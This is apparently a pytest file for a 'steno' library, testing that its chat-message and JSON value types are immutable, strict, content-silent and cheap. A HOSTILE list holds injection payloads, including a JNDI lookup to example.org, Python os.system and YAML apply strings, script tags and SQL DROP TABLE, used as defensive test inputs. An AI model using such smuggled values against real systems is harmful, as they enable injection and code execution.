"""Rules for all values: immutable, equal by content, strict, and a `repr` without content.

The tests in the first half run over one of everything (`samples.ALL`); the second half is about
`JsonObject`, `RawJson` and text.
"""

from __future__ import annotations

import copy
import gc
import math
import pickle
import subprocess
import sys
import tracemalloc
import unicodedata
from collections.abc import Callable, Iterable, Iterator, Mapping
from dataclasses import dataclass
from datetime import UTC, date, datetime
from enum import Enum
from itertools import combinations, product
from pathlib import Path
from types import NoneType, UnionType
from typing import Any, Union, cast, get_args, get_origin, get_type_hints

import msgspec
import pytest

import steno
from steno import (
    ChatMessage,
    Conflict,
    InvalidArguments,
    InvalidDocument,
    InvalidMessage,
    InvalidTool,
    InvalidValue,
    JsonObject,
    LogError,
    Message,
    Missing,
    Outcome,
    Problem,
    ProtocolError,
    ProviderError,
    RepairResult,
    StenoError,
    Text,
    ToolCall,
    ToolDefinition,
    map_tool_name,
    repair,
    replace_lone_surrogates,
)
from steno.codec import decode_message, decode_messages, encode_message, encode_messages
from steno.values import RawJson, is_utf8_text
from tests.code_probes import check_no_secret, expect_error, peak_memory, record_calls
from tests.invalid_values import BROKEN
from tests.value_samples import (
    ALL,
    MESSAGES,
    NOON,
    SECRET,
    STORED,
    Sample,
    call,
    definition,
    details,
    name_of,
)

every_value = pytest.mark.parametrize("sample", ALL, ids=name_of)
every_stored_value = pytest.mark.parametrize("sample", STORED, ids=name_of)

HALF = "half \ud83d of a pair"


# -- nothing can be changed ----------------------------------------------------------------------


def reachable(value: object) -> Iterator[object]:
    """Yield a value and everything that can be got at from it, fields and public attributes."""
    yield value
    if isinstance(value, msgspec.Struct):
        for name in {*value.__struct_fields__, *dir(value)}:
            attribute = getattr(value, name)
            if not name.startswith("_") and not callable(attribute):
                yield from reachable(attribute)
    elif isinstance(value, Mapping):
        yield from (part for pair in value.items() for side in pair for part in reachable(side))
    elif isinstance(value, tuple | frozenset):
        yield from (part for item in value for part in reachable(item))


@pytest.mark.requirement(
    "FR-004a-12", "FR-004a-37", "FR-004a-57", "FR-004a-72", "FR-004a-92", "NFR-004a-23"
)
@every_value
def test_nothing_changeable_can_be_reached_from_a_value(sample: Sample) -> None:
    """A promise: "no list or dict reachable from a value"."""
    atoms = (str, bytes, int, float, NoneType, datetime, Enum)
    containers = (msgspec.Struct, tuple, frozenset, JsonObject, RawJson)
    found = {type(part).__name__ for part in reachable(sample.build())
             if not isinstance(part, atoms + containers)}  # fmt: skip
    assert found == set()


@pytest.mark.requirement("NFR-004a-37", "FR-004a-12", "FR-004a-37", "FR-004a-57", "FR-004a-92")
@every_value
def test_no_attribute_of_a_value_can_be_assigned_or_deleted(sample: Sample) -> None:
    value, twin = sample.build(), sample.build()
    names = [name for name in dir(value) if not name.startswith("_")]
    for name in [*names, *value.__struct_fields__, "brand_new"]:
        with pytest.raises(AttributeError):
            setattr(value, name, None)
        with pytest.raises(AttributeError):
            delattr(value, name)
    assert value == twin


@pytest.mark.requirement("NFR-004a-37", "FR-004a-45", "FR-004a-79")
@pytest.mark.parametrize("value", [JsonObject({"a": 1}), RawJson('"a":1')], ids=["json", "raw"])
def test_no_attribute_of_kept_json_can_be_assigned_or_deleted(value: object) -> None:
    for name in [*cast("Any", type(value)).__slots__, "text", "brand_new"]:
        with pytest.raises(AttributeError):
            setattr(value, name, getattr(value, name, None))
        with pytest.raises(AttributeError):
            delattr(value, name)


@pytest.mark.requirement("NFR-004a-36")
@every_stored_value
def test_of_several_fields_only_the_first_may_be_given_by_position(sample: Sample) -> None:
    """Two or more fields are keyword-only; events, matched every day, are not."""
    assert len(sample.type.__match_args__) <= 1


@pytest.mark.requirement("NFR-004a-36")
@every_value
def test_unknown_fields_cannot_be_passed_to_a_constructor(sample: Sample) -> None:
    with pytest.raises(TypeError):
        sample.build(brand_new=1)


@pytest.mark.requirement("NFR-004a-36", "NFR-004a-32")
@every_value
def test_replacing_a_field_makes_a_new_value_and_checks_it(sample: Sample) -> None:
    value, twin = sample.build(), sample.build()
    assert msgspec.structs.replace(value) == twin
    if "content" in value.__struct_fields__:
        with pytest.raises(InvalidValue):
            msgspec.structs.replace(value, content=[])
    assert value == twin


# -- equal by content ----------------------------------------------------------------------------


@pytest.mark.requirement("FR-004a-34", "FR-004a-55", "FR-004a-70", "FR-004a-88")
@every_value
def test_values_of_the_same_content_are_equal_and_have_the_same_hash(sample: Sample) -> None:
    first, second = sample.build(), sample.build()
    assert first is not second
    assert first == second
    assert hash(first) == hash(second)
    assert len({first, second}) == 1


@pytest.mark.requirement("FR-004a-34")
def test_values_of_different_kind_or_content_are_not_equal() -> None:
    values = [sample.build() for sample in ALL]
    assert [pair for pair in combinations(values, 2) if pair[0] == pair[1]] == []
    assert all(value != repr(value) and value != () for value in values)


@pytest.mark.requirement("FR-004a-34", "FR-004a-55", "FR-004a-70", "FR-004a-88")
@every_value
def test_every_field_counts_in_a_comparison(sample: Sample) -> None:
    value = sample.build()
    for name in sample.fields():
        other = copy.copy(value)
        msgspec.structs.force_setattr(other, name, "something else")
        assert other != value, name


@pytest.mark.requirement("NFR-004a-23")
@every_value
@pytest.mark.parametrize(
    "duplicate",
    [copy.copy, copy.deepcopy, lambda value: pickle.loads(pickle.dumps(value))],
    ids=["copy", "deepcopy", "pickle"],
)
def test_a_duplicate_is_equal(sample: Sample, duplicate: Callable[[Any], Any]) -> None:
    value = sample.build()
    twin = duplicate(value)
    assert type(twin) is type(value)
    assert twin == value
    assert hash(twin) == hash(value)


# -- silent about content ------------------------------------------------------------------------


def printed(value: object) -> Iterator[str]:
    """Yield the output of the usual ways of printing a value."""
    yield from (repr(value), str(value), f"{value}", f"{value!r}", format(value))
    yield from (repr([value]), repr({"a": value}))
    tell = getattr(value, "__rich_repr__", None)
    if tell is not None:
        yield from (repr(tuple(part)) for part in tell())


@pytest.mark.requirement("NFR-004a-20", "FR-004a-35")
@every_value
def test_printing_a_value_shows_its_kind_and_not_its_content(sample: Sample) -> None:
    value = sample.build()
    assert all(SECRET not in shown for shown in printed(value))
    assert repr(value).startswith(f"{sample.type.__name__}(")


@pytest.mark.requirement("NFR-004a-20")
def test_printing_values_in_named_tuples_shows_no_content() -> None:
    lost = repair([ChatMessage.user(SECRET), ChatMessage.assistant(SECRET, [call()])])
    assert isinstance(lost, RepairResult)
    assert lost.issues
    assert all(SECRET not in shown for shown in printed(lost))
    assert str(Problem("/a/0", "expected integer")) == "/a/0: expected integer"
    assert str(Problem("", "expected object")) == "(the whole value): expected object"


@pytest.mark.requirement("FR-004a-35")
def test_a_repr_of_many_parts_is_cut() -> None:
    message = ChatMessage.user([Text("a")] * 1000)
    assert "… 992 more" in repr(message)
    assert len(repr(message)) < 500


@pytest.mark.requirement("FR-004a-35")
def test_a_repr_leaves_out_unset_fields() -> None:
    assert repr(Text("Hello")) == "Text(text=<5 characters>)"
    assert repr(ToolCall(id="call_1", name="read")) == "ToolCall(id='call_1', name='read')"


# -- strict --------------------------------------------------------------------------------------

CLUTTER: tuple[object, ...] = (
    *(None, True, False, 0, 7, -1, 2.5, math.nan, 1j, "", SECRET, b"", SECRET.encode()),
    *([], [SECRET], {}, {SECRET: SECRET}, set(), {SECRET}, (), (SECRET,), (None,), ((),)),
    *(object(), Text, Text(SECRET), call(), ChatMessage.user(SECRET), NOON, date(2026, 6, 1)),
    *(Outcome.OK, InvalidValue(SECRET), iter([SECRET]), bytearray(SECRET.encode()), len),
)  # fmt: skip


def fits(value: Any, hint: Any) -> bool:
    """Return whether a type checker would accept `value` for `hint`."""
    origin = get_origin(hint)
    if origin in (Union, UnionType):
        return any(fits(value, option) for option in get_args(hint))
    if origin is tuple:
        return type(value) is tuple and all(fits(part, get_args(hint)[0]) for part in value)
    if hint is float:
        return type(value) in (float, int)
    return isinstance(value, Mapping) if origin is not None else type(value) is hint


def loose_fields(sample: Sample, names: Iterable[str]) -> dict[str, set[str]]:
    """Return the fields that accept a wrong value, or raise another error than a refusal."""
    loose: dict[str, set[str]] = {}
    hints = get_type_hints(sample.type)
    for name, wrong in product(names, CLUTTER):
        if fits(wrong, hints[name]):
            continue
        try:
            sample.build(**{name: wrong})
        except InvalidValue as exc:
            check_no_secret(exc)
        except Exception as exc:  # noqa: BLE001 - any other error is what is looked for
            loose.setdefault(name, set()).add(f"{type(exc).__name__} for {type(wrong).__name__}")
        else:
            loose.setdefault(name, set()).add(f"takes {type(wrong).__name__}")
    return loose


@pytest.mark.requirement("NFR-004a-24", "NFR-004a-25", "FR-004a-32", "FR-004a-53", "FR-004a-54")
@pytest.mark.requirement("FR-004a-66", "FR-004a-87")
@every_stored_value
def test_a_field_of_another_type_is_refused(sample: Sample) -> None:
    """A promise: "strict at construction"; a type checker is not always there."""
    names = [name for name in sample.type.__struct_fields__ if name != "unknown"]
    assert loose_fields(sample, names) == {}


@pytest.mark.requirement("NFR-004a-31")
def test_unknown_members_are_verbatim_or_none() -> None:
    assert [sample.name for sample in STORED if loose_fields(sample, ["unknown"])] == []


@pytest.mark.requirement("NFR-004a-30")
@every_stored_value
def test_half_a_surrogate_pair_is_refused_in_every_text(sample: Sample) -> None:
    """It cannot be written as UTF-8, so a value that held it could never be stored or sent."""
    taken = []
    for name, value in sample.fields().items():
        if type(value) is str:
            try:
                sample.build(**{name: HALF})
            except InvalidValue:
                continue
            taken.append(name)
    assert taken == []


@pytest.mark.requirement("NFR-004a-27")
@every_stored_value
def test_every_value_can_be_encoded(sample: Sample) -> None:
    """No value may exist that cannot be stored or sent; `enc_hook` replaces the encoder of steno."""
    plain = {JsonObject: dict, RawJson: str}
    encoded = msgspec.json.encode(sample.build(), enc_hook=lambda part: plain[type(part)](part))
    assert encoded.startswith(b"{")


# -- errors --------------------------------------------------------------------------------------


@pytest.mark.requirement("NFR-004a-21", "NFR-004a-22", "NFR-004a-25", "FR-004a-33", "FR-004a-54")
@pytest.mark.parametrize("name", BROKEN)
def test_an_error_is_a_value_error_that_names_a_rule_and_shows_no_content(
    name: str,
) -> None:
    error = expect_error(BROKEN[name])
    assert isinstance(error, ValueError)
    assert isinstance(error, StenoError)
    place, separator, rule = str(error).partition(": ")
    assert all((place, separator, rule))
    assert error.code not in {InvalidValue.code, InvalidMessage.code, InvalidTool.code}


@pytest.mark.requirement("NFR-004a-25")
def test_every_error_belongs_to_one_tree() -> None:
    errors = [e for e in vars(steno).values() if isinstance(e, type) and issubclass(e, Exception)]
    assert len(errors) >= 9
    assert all(issubclass(error, StenoError) for error in errors)
    others = {error for error in errors if not issubclass(error, ValueError)}
    assert others == {StenoError, ProtocolError, ProviderError, LogError, Missing, Conflict}


@pytest.mark.requirement("NFR-004a-25")
@pytest.mark.parametrize("name", BROKEN)
def test_an_error_survives_the_way_to_another_process(name: str) -> None:
    error = expect_error(BROKEN[name])
    twin = pickle.loads(pickle.dumps(error))
    assert type(twin) is type(error)
    assert str(twin) == str(error)
    assert vars(twin) == vars(error)


@pytest.mark.requirement("NFR-004a-24")
@pytest.mark.parametrize("wrong", [None, b"fs.read"], ids=repr)
@pytest.mark.parametrize("function", [map_tool_name, replace_lone_surrogates])
def test_public_functions_refuse_values_that_are_not_text(
    function: Callable[[Any], object], wrong: object
) -> None:
    expect_error(lambda: function(wrong))


# -- work and size: what the seeds ask of speed, counted instead of timed -------------------------


def new_user() -> Message:
    return ChatMessage.user("Hello")


def new_turn() -> Message:
    return ChatMessage.assistant("I look.", [ToolCall(id="call_1", name="read", arguments="{}")])


def new_result() -> Message:
    return ChatMessage.tool_result("call_1", "ok")


MAKERS = [new_user, new_turn, new_result]


@pytest.mark.requirement("NFR-004a-01")
@pytest.mark.parametrize("make", MAKERS)
def test_making_a_checked_message_calls_a_handful_of_functions(make: Callable[[], Message]) -> None:
    """Under a microsecond there is time for about ten calls; `make bench` has the time itself."""
    make()
    work = record_calls(make)
    assert len(work.python) <= 10
    assert len(work.c) <= 10


@pytest.mark.requirement("NFR-004a-02", "NFR-004a-10")
def test_writing_messages_calls_no_python_function_for_each() -> None:
    few, many = [[new() for new in MAKERS] * times for times in (1, 100)]
    work = [record_calls(lambda m=m: encode_messages(m)) for m in (few, many)]  # type: ignore[misc]
    assert work[0].python == work[1].python
    assert len(work[0].python) <= 3
    assert len(record_calls(lambda: encode_message(few[1])).python) <= 3


@pytest.mark.requirement("NFR-004a-03", "NFR-004a-10")
def test_reading_messages_calls_only_the_checks_for_each() -> None:
    written = [encode_messages([new() for new in MAKERS] * times) for times in (1, 101)]
    few, many = [record_calls(lambda w=w: decode_messages(w)) for w in written]  # type: ignore[misc]
    assert len(few.python) <= 24
    assert len(many.python) - len(few.python) <= 100 * len(few.python)


@pytest.mark.requirement("NFR-004a-10")
def test_encoders_and_decoders_are_compiled_ones_and_built_once() -> None:
    message = new_turn()
    written = encode_message(message)

    def workers() -> list[object]:
        work = record_calls(lambda: (encode_message(message), decode_message(written)))
        return [function.__self__ for function in work.c if function.__name__ in _CODING]

    first, second = workers(), workers()
    assert {type(worker) for worker in first} >= {msgspec.json.Encoder, msgspec.json.Decoder}
    assert list(map(id, first)) == list(map(id, second))


_CODING = {"encode", "decode"}


@pytest.mark.requirement("NFR-004a-04")
@pytest.mark.parametrize("make", MAKERS)
def test_a_message_takes_less_than_a_kilobyte(make: Callable[[], Message]) -> None:
    count = 1000
    kept = [make()] * count
    gc.collect()
    tracemalloc.start()
    try:
        for number in range(count):
            kept[number] = make()
        size, _ = tracemalloc.get_traced_memory()
    finally:
        tracemalloc.stop()
    assert size / count < 1024


SHORT, LONG = "x" * 10, "x" * 10_000_000


@pytest.mark.requirement("NFR-004a-06")
@pytest.mark.parametrize(
    "make",
    [
        ChatMessage.system,
        ChatMessage.user,
        ChatMessage.assistant,
        lambda text: ChatMessage.tool_result("call_1", text),
    ],
    ids=["system", "user", "assistant", "tool_result"],
)
def test_checking_a_message_is_the_same_work_for_long_content(
    make: Callable[[str], Message],
) -> None:
    short, long = (record_calls(lambda text=text: make(text)) for text in (SHORT, LONG))  # type: ignore[misc]
    assert short.python == long.python
    assert [f.__name__ for f in short.c] == [f.__name__ for f in long.c]


@pytest.mark.requirement("NFR-004a-06", "NFR-004a-09")
@pytest.mark.parametrize(
    ("character", "limit"), [("x", 10_000), ("é", 200_000), ("漢", 200_000), ("😀", 200_000)]
)
def test_the_memory_to_check_a_message_is_bounded(character: str, limit: int) -> None:
    """ASCII is not scanned; other text is scanned in slices for lone surrogates."""
    text = character * 1_000_000
    assert peak_memory(lambda: ChatMessage.user(text)) < limit
    assert peak_memory(lambda: replace_lone_surrogates(text)) < limit


@pytest.mark.requirement("NFR-004a-07")
def test_comparing_messages_is_left_to_c_and_copies_nothing() -> None:
    def compare(text: str) -> bool:
        return ChatMessage.user([Text(text + "a")] * 3) == ChatMessage.user([Text(text + "b")] * 3)

    assert record_calls(lambda: compare(SHORT)).python == record_calls(lambda: compare(LONG)).python
    first, second = ChatMessage.user(LONG), ChatMessage.user(LONG[:-1] + "y")
    assert record_calls(lambda: first == second).python == []
    assert peak_memory(lambda: first == second) < 10_000
    assert first != second


@pytest.mark.requirement("NFR-004a-09")
def test_a_factory_keeps_what_it_is_given_and_copies_nothing() -> None:
    text, calls, blocks = SHORT * 2, (call(),), (Text("a"), Text("b"))
    assert cast("Text", ChatMessage.user(text).content[0]).text is text
    assert ChatMessage.user(blocks).content is blocks
    assert ChatMessage.assistant(None, calls).content is calls
    assert ChatMessage.tool_result("call_1", blocks).content is blocks
    frozen = JsonObject(details())
    assert ChatMessage.tool_result("call_1", "", details=frozen).details is frozen


# -- content is only carried ---------------------------------------------------------------------

HOSTILE = [
    "{0.__class__.__mro__}",
    "%(password)s %n",
    "${jndi:ldap://example.org/a}",
    "{{ 7 * 7 }}",
    "__import__('os').system('true')",
    "!!python/object/apply:os.system ['true']",
    "<script>alert(1)</script>",
    "\x1b]0;title\x07\x1b[2J",
    "'; DROP TABLE messages; --",
    "\\u0041 \\n \\\\",
    "\x00\x01\x7f\x85\u2028\u2029\ufeff\ufffe\U0010ffff",
    '{"type": "system", "content": []}',
]


@pytest.mark.requirement("NFR-004a-13", "NFR-004a-19")
@pytest.mark.parametrize("text", HOSTILE)
def test_content_is_carried_and_never_interpreted(text: str) -> None:
    message = ChatMessage.user(text)
    assert message.text == text
    assert decode_message(encode_message(message)) == message
    made = ToolCall.create("read", {text: [text]})
    assert made.parsed[text] == (text,)
    assert made.get(text) == (text,)
    assert text not in repr(message)


@pytest.mark.requirement("NFR-004a-19")
@pytest.mark.parametrize("form", ["NFC", "NFD", "NFKC", "NFKD"])
def test_text_keeps_its_code_points(form: Any) -> None:
    text = unicodedata.normalize(form, "Å ﬁ ① é ㌀ ẛ̣")
    message = ChatMessage.user(text)
    assert message.text == text
    loaded = decode_message(encode_message(message))
    assert isinstance(loaded, steno.UserMessage)
    assert loaded.text == text
    assert JsonObject({text: text}).text == f'{{"{text}":"{text}"}}'
    assert ToolCall.create("read", {text: text}).get(text, str) == text


def test_other_normal_forms_are_other_values() -> None:
    composed, decomposed = unicodedata.normalize("NFC", "é"), unicodedata.normalize("NFD", "é")
    assert Text(composed) != Text(decomposed)
    assert JsonObject({composed: 1}) != JsonObject({decomposed: 1})


@pytest.mark.requirement("NFR-004a-29")
def test_content_of_many_megabytes_is_made_written_and_read() -> None:
    text = "Grüße 🧾\n" * 2_500_000
    message = ChatMessage.user(text)
    written = encode_message(message)
    assert len(written) > 30_000_000
    assert decode_message(written) == message
    arguments = f'{{"text":"{"x" * 20_000_000}"}}'
    assert len(ToolCall(id="c", name="write", arguments=arguments).get("text", str) or "") == 2e7


@pytest.mark.requirement("NFR-004a-18", "NFR-004a-26")
@pytest.mark.parametrize("sample", MESSAGES, ids=name_of)
def test_a_message_cut_anywhere_is_an_invalid_document(sample: Sample) -> None:
    written = encode_message(sample.build())
    for end in range(len(written)):
        with pytest.raises(InvalidDocument) as caught:
            decode_message(written[:end])
        check_no_secret(caught.value)
    assert decode_message(written) == sample.build()


NO_WORLD = """
import sys
from tests.invalid_values import BROKEN
from tests.value_samples import ALL, MESSAGES
from steno.codec import decode_messages, encode_messages

STRANGE = (
    b'[{"type": "os.system", "args": ["true"]}, {"type": "user", "content": [{"type": "eval"}]},'
    b' {"__class__": "subprocess.Popen", "__reduce__": ["os.system", ["true"]]}]'
)

def use_everything():
    for sample in ALL:
        value = sample.build()
        repr(value), hash(value), value == value
    for code in BROKEN.values():
        try:
            code()
        except Exception:
            pass
    messages = [sample.build() for sample in MESSAGES]
    assert decode_messages(encode_messages(messages)) == tuple(messages)
    assert {type(kept).__name__ for kept in decode_messages(STRANGE)} == {"Opaque", "UserMessage"}

seen = []
use_everything()  # imports what is imported late
sys.addaudithook(lambda event, args: seen.append((event, args)))
use_everything()
sys.stdout.write("\\n".join(sorted({event for event, args in seen})))
"""


@pytest.mark.requirement("NFR-004a-15", "NFR-004a-16", "NFR-004a-17", "NFR-004a-13")
def test_values_touch_no_file_no_network_and_run_nothing() -> None:
    """Python reports every such step to audit hooks; a second round through everything has none."""
    root = Path(__file__).parents[1]
    run = subprocess.run(
        [sys.executable, "-W", "ignore", "-c", NO_WORLD],
        cwd=root, capture_output=True, text=True, timeout=60, check=False,
    )  # fmt: skip
    assert run.returncode == 0, run.stderr
    harmless = {"object.__getattr__", "object.__setattr__", "object.__delattr__"}
    harmless |= {"sys._getframe", "builtins.id", "gc.get_objects"}
    assert set(run.stdout.split()) - harmless == set()


# -- JsonObject ----------------------------------------------------------------------------------


def test_a_json_object_reads_like_a_mapping() -> None:
    value = JsonObject({"b": 1, "a": None, "": True})
    assert list(value) == ["b", "a", ""]
    assert len(value) == 3
    assert "a" in value
    assert "c" not in value
    assert value.get("c", 7) == 7
    assert dict(value) == {"b": 1, "a": None, "": True}
    assert isinstance(value, Mapping)
    with pytest.raises(KeyError):
        value["c"]
    assert JsonObject() == JsonObject({}) == {}


@pytest.mark.requirement("FR-004a-45", "FR-004a-79")
def test_a_json_object_is_read_only_at_every_depth() -> None:
    value = JsonObject(details())
    assert all(not isinstance(part, list | dict | set) for part in reachable(value))
    lines = cast("Any", value)["lines"]
    assert type(lines) is tuple
    assert type(lines[3]) is JsonObject
    assert type(lines[3]["deep"]) is tuple
    with pytest.raises(TypeError):
        cast("Any", value)["lines"] = 1
    with pytest.raises(TypeError):
        del cast("Any", value)["lines"]
    for change in ("clear", "pop", "popitem", "setdefault", "update"):
        assert not hasattr(value, change)


@pytest.mark.requirement("FR-004a-45")
def test_a_json_object_shares_no_container_with_its_source_or_its_copies() -> None:
    source = details()
    value = JsonObject(source)
    source["lines"].append("more")
    source["lines"][3]["deep"].clear()
    assert value == details()
    given = value.to_dict()
    assert given == details()
    given["lines"][3]["deep"].clear()
    assert value == details()


def test_json_objects_are_equal_when_they_are_the_same_json() -> None:
    value = JsonObject({"a": [1, {"x": 1, "y": 2}], "b": "é"})
    same = JsonObject.parse(b'{ "b": "\\u00e9", "a": [1, {"y": 2, "x": 1}] }')
    assert value == same
    assert hash(value) == hash(same)
    assert value == {"a": (1, {"y": 2, "x": 1}), "b": "é"}


@pytest.mark.parametrize(
    "other",
    [
        *({"a": 1.0}, {"a": True}, {"a": "1"}, {"a": None}, {"a": [1]}, {"A": 1}, {"a": 1, "b": 1}),
        *({}, {"a": math.nan}, {"a": ...}, {"a": HALF}, {("a",): 1}),
        *([("a", 1)], '{"a":1}', None, 1),
    ],
)
def test_json_objects_of_other_json_are_not_equal(other: object) -> None:
    value = JsonObject({"a": 1})
    assert value != other
    assert other != value


def test_the_text_of_a_json_object_is_compact_and_in_order() -> None:
    value = JsonObject.parse('{ "b" : [ 1.5 , null ] , "a" : { "é" : "\\u0007" } }')
    assert value.text == '{"b":[1.5,null],"a":{"é":"\\u0007"}}'
    assert JsonObject.parse(value.text) == value
    assert repr(value) == "<JSON object of 2 members>"


@pytest.mark.requirement("NFR-004a-27")
@pytest.mark.parametrize(
    "number", [2**53, 2**53 + 1, 2**63, 2**64 + 1, -(2**64) - 1, 10**40, 0.1, 1e308, 5e-324]
)
def test_numbers_keep_their_value(number: float) -> None:
    value = JsonObject({"n": number})
    assert value["n"] == number
    assert type(value["n"]) is type(number)
    assert JsonObject.parse(value.text)["n"] == number


def test_values_that_msgspec_can_encode_are_accepted_in_its_encoding() -> None:
    moment = datetime(2026, 5, 1, 12, tzinfo=UTC)
    value = JsonObject({"a": b"\x00\x01", "b": {1}, "c": moment, "d": Measured(1.5)})
    assert value == {"a": "AAE=", "b": [1], "c": "2026-05-01T12:00:00Z", "d": {"reading": 1.5}}


@dataclass
class Measured:
    """A value that msgspec knows how to write."""

    reading: float


@pytest.mark.requirement("NFR-004a-27")
@pytest.mark.parametrize(
    ("wrong", "code"),
    [
        ({"a": math.nan}, "not_finite"),
        ({"a": [1, None, (math.inf,)]}, "not_finite"),
        ({"a": {"b": {"c": -math.inf}}}, "not_finite"),
        ({"a": {1.5, math.inf}}, "not_finite"),
        ({"a": Measured(math.nan)}, "not_finite"),
        ({"a": ...}, "unsupported_type"),
        ({"a": 1j}, "unsupported_type"),
        ({"a": HALF}, "lone_surrogate"),
        ({HALF: 1}, "lone_surrogate"),
        ({("a",): 1}, "name_not_text"),
    ],
    ids=repr,
)
def test_values_that_json_cannot_represent_are_refused(
    wrong: Mapping[str, object], code: str
) -> None:
    assert expect_error(lambda: JsonObject(wrong)).code == code


@pytest.mark.requirement("NFR-004a-24")
@pytest.mark.parametrize("wrong", [[], [("a", 1)], "{}", b"{}", 5, 0, False, {"a"}, (), Text("a")])
def test_a_json_object_is_made_of_a_mapping(wrong: object) -> None:
    assert expect_error(lambda: JsonObject(cast("Any", wrong))).code == "not_a_mapping"


@pytest.mark.requirement("NFR-004a-18")
@pytest.mark.parametrize(
    "wrong",
    [
        *("", " ", "null", "[]", '"a"', "1", "{", '{"a"}', '{"a":}', "{'a':1}", '{"a":1,}'),
        *("{} {}", '{"a":NaN}', '{"a":1e999}', '{"a":"\\ud83d"}', '{"a":"\ud83d"}', '{"a":01}'),
        *("{}x", "\ufeff{}", b'{"a":"\xff"}', b"\xff", '{"a":' * 100_000, None, 5, {"a": 1}),
    ],
    ids=lambda wrong: repr(wrong)[:20],
)
def test_text_that_is_not_a_json_object_is_refused(wrong: Any) -> None:
    expect_error(lambda: JsonObject.parse(wrong))


def nested(depth: int) -> str:
    return '{"a":' * depth + "null" + "}" * depth


DEEP_USES: dict[str, Callable[[JsonObject], object]] = {
    "thaw": JsonObject.to_dict,
    "read": lambda value: value["a"],
    "copy": JsonObject,
    "from_dict": lambda value: JsonObject(json_of(value)),
    "compare": lambda value: value == JsonObject.parse(value.text),
    "hash": hash,
    "repr": repr,
    "pickle": lambda value: pickle.loads(pickle.dumps(value)),
    "arguments": lambda value: called_with(value).arguments_as(dict),
    "argument": lambda value: called_with(value).get("a", dict),
    "check": lambda value: definition().check(called_with(value)),
    "details": lambda value: ChatMessage.tool_result("call_1", "", details=value),
    "parameters": lambda value: ToolDefinition(
        name="a", description="b", parameters={"type": "object", "default": value}
    ),
}


@pytest.mark.requirement("NFR-004a-18", "NFR-004a-27")
@pytest.mark.parametrize("depth", [10, 190, 400, 800])
@pytest.mark.parametrize("use", DEEP_USES)
def test_deep_nesting_is_followed_or_refused(use: str, depth: int) -> None:
    """Deep nesting has a clear outcome and is never a crash."""
    try:
        DEEP_USES[use](JsonObject.parse(nested(depth)))
    except InvalidArguments as exc:
        refusal = exc.problems[0].rule
    except InvalidValue as exc:
        refusal = exc.code
    except RecursionError:
        # Not left to pytest, which would print a thousand frames.
        pytest.fail(f"RecursionError at depth {depth}", pytrace=False)
    else:
        return
    assert refusal == "too_deep" or "nested" in refusal


def called_with(value: JsonObject) -> ToolCall:
    return ToolCall(id="call_1", name="read", arguments=value.text)


def json_of(value: JsonObject) -> dict[str, Any]:
    plain: dict[str, Any] = msgspec.json.decode(value.text)
    return plain


# -- RawJson -------------------------------------------------------------------------------------


def test_verbatim_text_is_kept_and_compared_as_it_is() -> None:
    kept = RawJson('"a" : 1')
    assert kept.text == '"a" : 1'
    assert kept == RawJson('"a" : 1')
    assert hash(kept) == hash(RawJson('"a" : 1'))
    assert kept != RawJson('"a":1')
    assert kept != '"a" : 1'
    assert repr(kept) == "<7 characters kept verbatim>"
    for twin in (copy.copy(kept), copy.deepcopy(kept), pickle.loads(pickle.dumps(kept))):
        assert twin == kept


# -- text ----------------------------------------------------------------------------------------

PAIR = "\ud83e\uddfe"
"""One character, as two halves."""


@pytest.mark.requirement("NFR-004a-30")
@pytest.mark.parametrize(
    ("given", "cleaned"),
    [
        ("", ""),
        ("plain", "plain"),
        ("Grüße 🧾", "Grüße 🧾"),
        (PAIR, "🧾"),
        (PAIR[0], "\ufffd"),
        (f"a{PAIR[1]}b", "a\ufffdb"),
        (PAIR[::-1], "\ufffd\ufffd"),
        (f"{PAIR[0]}{PAIR}", "\ufffd🧾"),
        (f"{PAIR}{PAIR[1]}", "🧾\ufffd"),
        ("already \ufffd", "already \ufffd"),
        ("\U0010ffff\ufffe\0", "\U0010ffff\ufffe\0"),
    ],
)
def test_pairs_of_surrogates_are_joined_and_lone_ones_replaced(given: str, cleaned: str) -> None:
    assert replace_lone_surrogates(given) == cleaned
    assert is_utf8_text(replace_lone_surrogates(given))
    assert Text(replace_lone_surrogates(given)).text == cleaned


@pytest.mark.requirement("NFR-004a-30", "NFR-004a-09")
def test_clean_text_is_handed_back_as_it_is() -> None:
    for text in ("plain", "Grüße 🧾"):
        assert replace_lone_surrogates(text) is text


class Shout(str):
    """A string that is more than its characters."""

    __slots__ = ()


@pytest.mark.requirement("NFR-004a-23")
@pytest.mark.parametrize("value", [None, b"a", 1, Shout("a"), "\ud83e", "a\udfff"], ids=repr)
def test_text_is_exactly_a_string_that_utf8_can_carry(value: object) -> None:
    """A subclass of str may have mutable state, and does not equal the loaded value."""
    assert not is_utf8_text(value)
